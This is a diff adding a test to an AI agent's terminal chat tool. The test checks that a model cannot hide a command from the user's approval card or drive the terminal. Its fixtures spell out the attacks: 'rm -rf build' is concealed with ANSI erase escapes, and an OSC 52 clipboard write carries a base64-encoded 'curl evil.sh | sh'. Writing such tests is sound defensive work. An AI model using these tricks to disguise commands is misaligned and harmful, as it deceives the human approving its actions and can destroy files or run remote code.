@@ -292,6 +292,35 @@ async def test_on_a_tty_chat_shows_the_approval_card_and_asks_and_an_allowed_cal
     assert not (project / "build").exists()
 
 
+async def test_on_a_tty_the_model_cannot_hide_a_cards_command_or_drive_the_terminal(
+    daemon: Daemon, fake_provider: FakeProvider, project: Path
+) -> None:
+    """The model is untrusted: its text, tool output and the command a card asks about reach
+    the terminal with their control characters shown, not obeyed. On the old code the card's
+    ``rm -rf build`` was erased on screen by ``ESC [2K`` + CR, leaving only ``npm test`` before
+    "allow once?", and the answer's OSC 52 wrote the terminal's clipboard."""
+    (project / "build").mkdir()
+    hidden = "rm -rf build\x1b[2K\rnpm test"
+    clipboard = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+    fake_provider.push(
+        Reply(
+            text=f"Cleaning up.{clipboard} ",
+            tool_calls=(ToolCallSpec("call_rm", "bash", {"command": hidden}),),
+        )
+    )
+    cli = await PtyCli.start("chat", "clean up", home=daemon.home, cwd=project)
+    try:
+        await cli.wait_for("allow once? [y/N]")
+        cli.type("n\r")
+        await cli.exit_code()
+    finally:
+        cli.close()
+    assert "build\x1b[2K" not in cli.raw and "\x1b]52" not in cli.raw  # (rich's own ESC stay)
+    assert "command: rm -rf build\\x1b[2K\\x0dnpm test" in cli.text
+    assert "Cleaning up.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in cli.text
+    assert (project / "build").exists()  # denied
+
+
 async def test_on_a_tty_ctrl_c_cancels_the_running_turn_and_the_exit_code_says_cancelled(
     daemon: Daemon, fake_provider: FakeProvider, project: Path
 ) -> None:
